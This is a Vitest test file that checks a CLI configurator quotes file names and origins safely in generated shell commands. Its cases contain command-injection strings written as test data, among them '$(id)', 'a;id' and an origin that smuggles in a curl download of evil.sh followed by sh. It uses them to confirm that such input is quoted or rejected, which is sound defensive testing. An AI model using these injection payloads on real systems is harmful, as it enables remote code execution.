// @vitest-environment node
import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { judge } from '../../../demo/client/configure/outcome';
import { START } from '../../../demo/client/configure/state';
import { installationOf } from '../../../src/cli/installation';

const CONFIG = { policy: { url: '/privacy', version: '2025-02' } };

/** What a shell gives the program that `npx` would be. */
const wordsOf = (command: string): string[] =>
  execFileSync('sh', ['-c', command.replace(/^npx/, "printf '%s\\0'")], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);

describe('what is printed for a shell', () => {
  test.each(['assent.json', 'sites/own site.json', "it's.json", '$(id).json', 'a;id', 'a\nb.json', '~/assent.json'])(
    'a file that is named %j is one word of the commands',
    (file) => {
      const { serve, declaration } = installationOf(file, CONFIG, '/assent', 'http://[::1]:8080');
      const rest = ['--origin', 'http://[::1]:8080'];
      expect(wordsOf(serve)).toEqual(['assent', 'serve', ...rest, '--db', 'receipts.db', '--config', file]);
      expect(wordsOf(declaration.command)).toEqual(['assent', 'declaration', '--config', file, ...rest]);
    },
  );

  test('what needs no quotes has none', () => {
    expect(installationOf('sites/assent.json', CONFIG, '/assent', 'https://klouttrack.com:8443').serve).toBe(
      'npx assent serve --origin https://klouttrack.com:8443 --db receipts.db --config sites/assent.json',
    );
  });

  test.each(['https://x;{curl,-so,x,evil.sh};{sh,x}', 'https://a$(id).com', 'https://a`id`.com'])(
    'the configurator gives no command for a link with the origin %s',
    (origin) => {
      const { outcome, mistakes } = judge({ ...START, origin });
      expect(outcome).toBeUndefined();
      expect(mistakes).toEqual([
        expect.objectContaining({ path: 'origin', fix: 'use one such as https://klouttrack.com' }),
      ]);
    },
  );
});
